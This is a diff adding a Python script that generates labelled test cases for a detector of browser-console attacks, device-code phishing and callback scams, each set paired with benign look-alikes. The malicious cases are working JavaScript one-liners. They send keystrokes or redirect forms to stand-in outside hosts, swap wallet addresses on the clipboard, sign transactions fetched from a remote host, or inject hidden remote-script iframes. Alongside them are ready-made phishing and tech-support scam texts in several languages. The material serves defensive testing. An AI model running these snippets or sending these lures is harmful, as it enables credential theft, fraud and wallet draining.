@@ -1,0 +1,335 @@
+"""Writes tests/data/cases/b4win.jsonl: Windows, browser-console and call-me lure techniques that
+a fourth blind set found missing, each written here in our own variants beside the everyday texts
+that look like them and must stay quiet.
+
+    python tests/data/cases/make_b4win.py
+
+Deterministic (every variant is a product of fixed lists). Hosts are reserved names (*.test,
+*.invalid, *.example) and documentation addresses (192.0.2.0/24, 198.51.100.0/24); phone
+numbers are fictitious (555 ranges). No text is copied from a lure collection, an IOC file or
+another detector's fixtures. Each line is {id, text, expect, technique, platform[, source],
+target}.
+
+Techniques:
+
+- `console-keylogger`: a key listener that sends each key to another host (image beacon, fetch,
+  sendBeacon, WebSocket). Look-alikes: listeners that log locally or call the site's own path.
+- `console-form-hijack`: every form's action pointed at another host. Look-alikes: reading a
+  form's action, setting it to a path of the site.
+- `console-clipboard-swap`: a copy/cut listener that writes a wallet address (or swaps what
+  matches an address pattern) onto the clipboard. Look-alike: a copy listener that logs.
+- `console-wallet-fetched-tx`: a transaction fetched from another host, signed and sent by the
+  browser wallet (Solana, Ethereum). Look-alikes: connecting a wallet, signing a transaction the
+  page built itself.
+- `console-iframe-srcdoc`: a frame whose srcdoc is another host's script tag, split to dodge a
+  match. Look-alike: a srcdoc preview with the site's own script.
+- `device-code-letters`: device-code phishing with Google's and GitHub's letter codes
+  (ABCD-EFGH) and pretexts (a shared document, an app to authorise). Look-alikes: the TV's own
+  sign-in hint, the GitHub CLI's own output, documentation of the flow.
+- `scam-fa`: a Persian tech-support lure and fake charge. Look-alikes: a shop's order message.
+- `scam-refund-overpaid`, `scam-call-to-cancel`, `scam-bank-blocked`, `scam-refund-verify`:
+  callback lures in several languages. Look-alikes: genuine bank, airline, delivery, renewal
+  and refund messages with a number to call.
+"""
+
+from __future__ import annotations
+
+import itertools
+from pathlib import Path
+
+OUT = Path(__file__).with_name("b4win.jsonl")
+STRANGER = "https://www.harbor-crafts.example/shop/checkout"
+CONSOLE = "browser_console"
+
+
+def case(
+    cid: str,
+    text: str,
+    expect: str,
+    technique: str,
+    platform: str,
+    target: str,
+    source: str | None = None,
+) -> dict[str, str]:
+    out = {"id": cid, "text": text, "expect": expect, "technique": technique, "platform": platform}
+    if source:
+        out["source"] = source
+    out["target"] = target
+    return out
+
+
+class Book:
+    """Numbers the cases of each technique, lures and look-alikes apart."""
+
+    def __init__(self) -> None:
+        self.cases: list[dict[str, str]] = []
+        self.counts: dict[str, int] = {}
+
+    def add(
+        self,
+        technique: str,
+        text: str,
+        expect: str,
+        platform: str = "any",
+        target: str = "unknown",
+        source: str | None = None,
+    ) -> None:
+        benign = expect in ("not_flagged", "clean", "info")
+        key = ("ok-" if benign else "") + technique
+        self.counts[key] = self.counts.get(key, 0) + 1
+        cid = f"b4w-{key}-{self.counts[key]:02d}"
+        self.cases.append(
+            case(cid, text, expect, "none" if benign else technique, platform, target, source)
+        )
+
+
+# ---- browser console ------------------------------------------------------------------------
+SPY_HOSTS = (
+    "k.pixel-relay.test",
+    "cdn.stat-beacon.invalid",
+    "198.51.100.23",
+    "log.typeahead.example",
+)
+BEACONS = (
+    "new Image().src = 'https://{h}/k?c=' + encodeURIComponent({v})",
+    "navigator.sendBeacon('https://{h}/c', {v})",
+    "fetch('https://{h}/k', {{method: 'POST', mode: 'no-cors', body: {v}}})",
+    "ws.send({v}); /* ws = new WebSocket('wss://{h}/s') */",
+    "fetch(`//{h}/k?k=${{{v}}}`)",
+)
+KEY_LISTENERS = (
+    "document.addEventListener('keydown', e => {{ {b}; }});",
+    'window.addEventListener("keypress", function (e) {{ {b}; }}, true);',
+    "document.onkeyup = e => {{ {b} }};",
+    "document.querySelectorAll('input').forEach(i => i.addEventListener('input', e => {{ {b}; }}));",
+)
+
+
+def console(book: Book) -> None:
+    for n, (listener, beacon) in enumerate(itertools.product(KEY_LISTENERS, BEACONS)):
+        host = SPY_HOSTS[n % len(SPY_HOSTS)]
+        value = "e.key" if "input" not in listener else "e.target.value"
+        text = listener.format(b=beacon.format(h=host, v=value))
+        if "WebSocket" in text:
+            text = f"const ws = new WebSocket('wss://{host}/s'); " + text
+        book.add("console-keylogger", text, "malicious", target=CONSOLE)
+    for text in (
+        "document.addEventListener('keydown', e => console.log(e.key, e.code));",
+        "window.onkeydown = e => { if (e.key === '/' ) document.querySelector('#search').focus(); }",
+        "document.addEventListener('keydown', e => { if (e.ctrlKey && e.key === 'k') fetch('/api/search?q=' + q.value) });",
+        "document.querySelectorAll('input').forEach(i => i.addEventListener('input', () => console.log(i.name, i.value.length)));",
+        "monitorEvents(document.body, 'key')",
+        "getEventListeners(document).keydown",
+    ):
+        book.add("console-keylogger", text, "not_flagged", target=CONSOLE)
+
+    form_hosts = ("collect.form-relay.test", "203.0.113.40", "login-sync.invalid")
+    form_tricks = (
+        "document.querySelectorAll('form').forEach(f => f.action = 'https://{h}/submit');",
+        "for (const f of document.forms) f.setAttribute('action', 'https://{h}/p');",
+        "[...document.forms].forEach(form => {{ form.action = '//{h}/login'; }});",
+        "document.forms[0].action = 'https://{h}/auth'; document.forms[0].method = 'post';",
+        "const u = 'https://{h}/x'; for (let i = 0; i < document.forms.length; i++) document.forms[i].action = u;",
+        "document.querySelector('button[type=submit]').setAttribute('formaction', 'https://{h}/pay');",
+    )
+    for trick, host in itertools.product(form_tricks, form_hosts):
+        book.add("console-form-hijack", trick.format(h=host), "malicious", target=CONSOLE)
+    for text in (
+        "document.forms[0].action",
+        "document.querySelector('form').action = '/login/v2'",
+        "[...document.forms].map(f => f.action)",
+        "document.querySelectorAll('form').forEach(f => console.log(f.id, f.action, f.method))",
+        "document.forms.length",
+    ):
+        book.add("console-form-hijack", text, "not_flagged", target=CONSOLE)
+
+    wallets = (
+        "0x3f5CE5FBFe3E9af3971dD833D26bA9b5C936f0bE",
+        "bc1q9h8w7v6u5t4s3r2q0p9n8m7l6k5j4h3g2f0d9s",
+        "7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU",
+        "TN3W4H6rK2ce4vX9YnFQHwKENnHjoxb3m9",
+    )
+    swaps = (
+        "document.addEventListener('copy', e => {{ e.clipboardData.setData('text/plain', '{w}'); e.preventDefault(); }});",
+        "document.oncopy = function (e) {{ e.preventDefault(); e.clipboardData.setData('text', '{w}'); }};",
+        "addEventListener('cut', () => setTimeout(() => navigator.clipboard.writeText('{w}'), 50));",
+        "document.addEventListener('copy', e => {{ const s = getSelection().toString(); e.clipboardData.setData('text/plain', s.replace(/0x[a-fA-F0-9]{{40}}/g, '{w}')); e.preventDefault(); }});",
+    )
+    for swap, wallet in itertools.product(swaps, wallets):
+        book.add("console-clipboard-swap", swap.format(w=wallet), "malicious", target=CONSOLE)
+    for text in (
+        "document.addEventListener('copy', e => { console.log('copied', document.getSelection().toString()); });",
+        "navigator.clipboard.writeText(location.href)",
+        "document.addEventListener('copy', e => { e.clipboardData.setData('text/plain', getSelection() + '\\n\\nSource: ' + location.href); e.preventDefault(); });",
+        "await navigator.clipboard.readText()",
+    ):
+        book.add("console-clipboard-swap", text, "not_flagged", target=CONSOLE)
+
+    tx_hosts = ("api.sol-claim.test", "relay.airdrop-hub.invalid", "198.51.100.77")
+    transfers = (
+        "fetch('https://{h}/tx').then(r => r.json()).then(async d => {{ await window.solana.signAndSendTransaction(d.tx); }});",
+        "const {{ tx }} = await (await fetch('https://{h}/build?w=' + solana.publicKey)).json(); await solana.signAndSendTransaction(solanaWeb3.Transaction.from(tx));",
+        "const t = await (await fetch('https://{h}/claim')).json(); await ethereum.request({{ method: 'eth_sendTransaction', params: [t] }});",
+        "$.getJSON('https://{h}/p', p => window.ethereum.request({{method: 'eth_signTypedData_v4', params: [p.from, p.data]}}));",
+        "const txs = await fetch('https://{h}/all').then(r => r.json()); await window.phantom.solana.signAllTransactions(txs);",
+    )
+    for transfer, host in itertools.product(transfers, tx_hosts):
+        book.add("console-wallet-fetched-tx", transfer.format(h=host), "malicious", target=CONSOLE)
+    for text in (
+        "await window.solana.connect(); console.log(window.solana.publicKey.toString())",
+        "const tx = buildTransferTx(); const sig = await window.solana.signAndSendTransaction(tx); console.log(sig)",
+        "await ethereum.request({ method: 'eth_requestAccounts' })",
+        "const t = await (await fetch('/api/tx/preview')).json(); console.table(t)",
+        "await ethereum.request({ method: 'eth_chainId' })",
+    ):
+        book.add("console-wallet-fetched-tx", text, "not_flagged", target=CONSOLE)
+
+    frame_hosts = ("cdn.widget-hub.test", "w.frame-kit.invalid", "192.0.2.81")
+    frames = (
+        "const f = document.createElement('iframe'); f.srcdoc = '<scr' + 'ipt src=\"https://{h}/w.js\"></scr' + 'ipt>'; document.body.appendChild(f);",
+        "let i = document.createElement('iframe'); i.style.display = 'none'; i.srcdoc = \"<script src='//{h}/a.js'></\" + \"script>\"; document.body.append(i);",
+        "document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<script src=https://{h}/p.js></script>\" hidden></iframe>`);",
+        "Object.assign(document.body.appendChild(document.createElement('iframe')), {{srcdoc: '<script src=\"https://{h}/x.js\"><' + '/script>'}});",
+    )
+    for frame, host in itertools.product(frames, frame_hosts):
+        book.add("console-iframe-srcdoc", frame.format(h=host), "malicious", target=CONSOLE)
+    for text in (
+        "f.srcdoc = '<p>hello</p><script src=\"/static/preview.js\"></script>'",
+        "document.querySelector('iframe').srcdoc",
+        "const f = document.createElement('iframe'); f.srcdoc = '<h1>Preview</h1>'; document.body.append(f);",
+    ):
+        book.add("console-iframe-srcdoc", text, "not_flagged", target=CONSOLE)
+    for text in (
+        "Object.keys(localStorage).forEach(k => console.log(k));",
+        "Object.keys(localStorage).map(k => [k, localStorage.getItem(k).length])",
+        "console.table(Object.keys(sessionStorage))",
+        "fetch('/api/v1/me').then(r => r.json()).then(console.log)",
+    ):
+        book.add("console-local-look", text, "not_flagged", target=CONSOLE)
+
+
+# ---- device-code phishing with letter codes -------------------------------------------------
+def device_codes(book: Book) -> None:
+    pages = (
+        "https://www.google.com/device",
+        "google.com/device",
+        "https://github.com/login/device",
+        "github.com/login/device",
+    )
+    codes = ("KQPT-WMHD", "HGTR-BXQW", "GHK-LMN-PQR", "WDZX-PLMQ")
+    lines = (
+        "Go to {p} and enter the code {c} to open the document Sarah shared with you.",
+        "To authorise the Security Scanner app for your repositories, visit {p} and enter code {c} within 15 minutes.",
+        "Your reviewer needs access: open {p}, type {c}, then click Authorize to see the pull request.",
+        "Visit {p} on your phone and type {c} to link the shared drive folder before it expires in 10 minutes.",
+        "HR portal: to view your updated payroll statement, go to {p} and use the code {c}.",
+    )
+    for n, (line, page) in enumerate(itertools.product(lines, pages)):
+        book.add("device-code-letters", line.format(p=page, c=codes[n % len(codes)]), "flagged")
+    for text in (
+        "To sign in on your TV, go to google.com/device and enter the code shown on the TV screen.",
+        "! First copy your one-time code: 8A2F-3C9D\nOpen this URL to continue in your web browser: https://github.com/login/device",
+        "The device flow: the user visits github.com/login/device and enters the user_code, e.g. WDJB-MJHT.",
+        "RFC 8628 device authorization: show verification_uri (https://www.google.com/device) and the user code to the user.",
+        "Our smart display asks you to open google.com/device on a phone; the code changes every few minutes.",
+    ):
+        book.add("device-code-letters", text, "not_flagged")
+
+
+# ---- call-me texts --------------------------------------------------------------------------
+def scams(book: Book) -> None:
+    fa_lures = (
+        "هشدار امنیتی! رایانه شما به ویروس آلوده شده و مسدود شده است. لطفاً فوراً با پشتیبانی مایکروسافت به شماره {p} تماس بگیرید. رایانه را خاموش نکنید.",
+        "کامپیوتر شما توسط هکرها قفل شده است. برای رفع مشکل با شماره پشتیبانی {p} تماس بگیرید.",
+        "ویروس تروجان در سیستم شما شناسایی شد. دسترسی غیرمجاز به حساب بانکی شما. فوراً به {p} زنگ بزنید.",
+        "مبلغ ۴٬۵۰۰٬۰۰۰ تومان از حساب شما کسر شد. اگر این تراکنش را شما انجام نداده‌اید، برای لغو با شماره {p} تماس بگیرید.",
+        "اشتراک شما تمدید شد و ۳۹۹ دلار برداشت شد. برای بازگشت وجه با {p} تماس بگیرید.",
+    )
+    fa_phones = ("۰۲۱-۹۱۰۰۲۳۴۵", "+98 21 5550 1234", "021-55501234")
+    for lure, phone in itertools.product(fa_lures, fa_phones):
+        book.add("scam-fa", lure.format(p=phone), "flagged", target="other")
+    for text in (
+        "برای پیگیری سفارش خود با شماره ۰۲۱-۹۱۰۰۱۰۰۰ تماس بگیرید. ساعات کاری: شنبه تا چهارشنبه.",
+        "فروشگاه ما: سفارش شما با موفقیت ثبت شد. مبلغ ۲۵۰٬۰۰۰ تومان. پشتیبانی: ۰۲۱-۸۸۰۰۱۲۳۴",
+        "مراقب کلاهبرداری باشید: هیچ بانکی از شما نمی‌خواهد با شماره ۰۲۱-۵۵۵۰۱۲۳۴ تماس بگیرید و رمز را بگویید.",
+        "نوبت دندانپزشکی شما فردا ساعت ۱۰ است. برای لغو با ۰۲۱-۲۲۰۰۱۱۲۲ تماس بگیرید.",
+    ):
+        book.add("scam-fa", text, "not_flagged", target="other")
+
+    phones_en = ("+1 (555) 010-2288", "1-888-555-0147", "+44 20 5550 0199")
+    overpaid = (
+        "Dear customer, due to a system error we refunded you $1,500.00 instead of $150.00. Please call us at {p} so our technician can connect to your computer and return the excess amount.",
+        "Refund notice: $2,999 was credited to your account by mistake. Call {p} today; our support technician will help you send back the difference.",
+        "We accidentally refunded you too much for your antivirus cancellation. Phone {p} and keep AnyDesk open so we can reverse the extra amount.",
+        "Your overpayment of $900 must be returned. Call {p}, a technician will start a remote session to fix the transfer.",
+    )
+    for lure, phone in itertools.product(overpaid, phones_en):
+        book.add("scam-refund-overpaid", lure.format(p=phone), "flagged", target="other")
+    cancel = (
+        "Your Geek Squad membership renews today for $399.99. To cancel, call {p} within 24 hours.",
+        "Norton 360 auto-renewal: $349.99 will be debited tonight. Call {p} to stop the renewal.",
+        "Ihr McAfee-Abonnement wurde automatisch um 1 Jahr verlängert. Betrag: 399,99 €. Rufen Sie innerhalb von 24 Stunden {p} an, um zu kündigen.",
+        "Ihr Norton-Abo wird heute für 349,99 € erneuert. Falls Sie nicht verlängern möchten, rufen Sie innerhalb von 24 Std. an: {p}, um die Verlängerung zu stornieren.",
+        "Il tuo abbonamento antivirus è stato rinnovato per 299,00 €. Per annullare chiama il {p} entro 24 ore.",
+        "Su suscripción de seguridad se renovó por 289,99 €. Para cancelar, llame al {p} dentro de 24 horas.",
+        "Votre abonnement antivirus sera prélevé de 299,99 € aujourd'hui. Pour annuler, appelez le {p} sous 24 h.",
+        "Ihre Jahreslizenz Internet Security: Die Verlängerung über 399,99 EUR wird heute eingezogen. Um die Verlängerung zu kündigen, rufen Sie uns innerhalb von 24 Stunden unter {p} an.",
+    )
+    for lure, phone in itertools.product(cancel, phones_en):
+        book.add("scam-call-to-cancel", lure.format(p=phone), "flagged", target="other")
+    blocked = (
+        "Banca Example: abbiamo bloccato un bonifico di 2.450,00 € verso un IBAN sconosciuto. Se non l'hai disposto tu, chiama subito il nostro servizio antifrode al numero {p}.",
+        "Your bank: we blocked a transfer of $2,300 to a new payee. If this wasn't you, call our fraud team immediately on {p}.",
+        "Banco Ejemplo: hemos bloqueado una transferencia de 1.890 € a su nombre. Si no la ha realizado, llame inmediatamente al {p}.",
+        "Ihre Überweisung über 1.750 € wurde gesperrt. Wenn Sie diese nicht beauftragt haben, rufen Sie sofort {p} an.",
+        "Nous avons bloqué un virement de 3 200 €. Si vous n'êtes pas à l'origine de cette opération, appelez immédiatement le {p}.",
+    )
+    for lure, phone in itertools.product(blocked, phones_en):
+        book.add("scam-bank-blocked", lure.format(p=phone), "flagged", target="other")
+    verify = (
+        "Agencia Tributaria: tiene un reembolso pendiente de 612,40 €. Para recibirlo, verifique sus datos llamando al {p} antes del viernes.",
+        "IRS notice: your tax refund of $1,284 is pending. Verify your identity by calling {p} to release it.",
+        "HMRC: a tax rebate of £486.20 is waiting for you. Call {p} to confirm your bank details and receive it.",
+        "Agenzia delle Entrate: un rimborso di 418,00 € è in attesa. Verifica i tuoi dati chiamando il {p}.",
+        "Impots: un remboursement de 356 € est en attente. Confirmez vos informations par téléphone au {p}.",
+        "Hacienda: tiene una devolución de 612,40 € lista para abonar. Confirme su identidad por vía telefónica en el {p}.",
+    )
+    for lure, phone in itertools.product(verify, phones_en):
+        book.add("scam-refund-verify", lure.format(p=phone), "flagged", target="other")
+    for text in (
+        "We blocked a card payment of $84.20 at an online store because it looked unusual. If you don't recognise it, call the number on the back of your card. Never share your PIN.",
+        "Abbiamo sospeso un pagamento di 120,00 € con la tua carta. Se non l'hai fatto tu, chiama il numero sul retro della carta o apri l'app.",
+        "Your flight BA 0117 on 12 March has been rescheduled to 14:35. To change or cancel your booking, call us on +44 20 5550 0123 or manage it online.",
+        "Your parcel could not be delivered today. We will try again tomorrow. Questions? Call 0800 555 0142 (Mon-Fri 8am-6pm).",
+        "Ihr Abonnement wird am 01.03. für 49,99 € verlängert. Sie können jederzeit in Ihrem Konto kündigen. Fragen? 030 5550 1234.",
+        "Your refund of $42.50 has been processed and will appear on your statement in 3-5 business days. Questions? Call 1-800-555-0199.",
+        "Agencia Tributaria: su devolución de 612,40 € ha sido abonada en su cuenta. Para consultas, 901 555 335.",
+        "Vodafone: la tua offerta si rinnoverà il 15/04 a 9,99 €. Per informazioni chiama il 190.",
+        "If you overpaid your invoice, the difference is credited to your next bill. Billing questions: +1 555 010 4422.",
+        "Reminder: your dentist appointment is tomorrow at 10:00. To cancel or reschedule, call 020 5550 1188 at least 24 hours before.",
+        "Scam alert: criminals pose as bank fraud teams and say a transfer was blocked; never call a number they give you, such as +1 555 010 9999.",
+        "Your TV licence renews on 1 April for £169.50. To cancel, call 0300 555 0120 or visit our website.",
+        "Hotel Example: your booking for 2 nights (€240.00) is confirmed. To cancel free of charge before 24 hours, call +39 02 5550 1122.",
+        "Banco Ejemplo: su transferencia de 300 € se ha realizado correctamente. Atención al cliente: 910 555 000.",
+        "Payroll: we paid you €150 too much in March by mistake; it will be deducted from April's salary. Questions: HR, +49 30 5550 7788.",
+        "Your tax refund of $1,284 has been approved and will be deposited within 21 days. No action is needed. IRS help line: 1-800-555-0104.",
+    ):
+        book.add("scam-genuine-phone", text, "not_flagged", target="other")
+
+
+def build() -> list[dict[str, str]]:
+    book = Book()
+    console(book)
+    device_codes(book)
+    scams(book)
+    ids = [c["id"] for c in book.cases]
+    assert len(ids) == len(set(ids)), "case ids must be unique"
+    return book.cases
+
+
+CASES = build()
+
+if __name__ == "__main__":
+    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py
+
+    write(OUT, CASES)
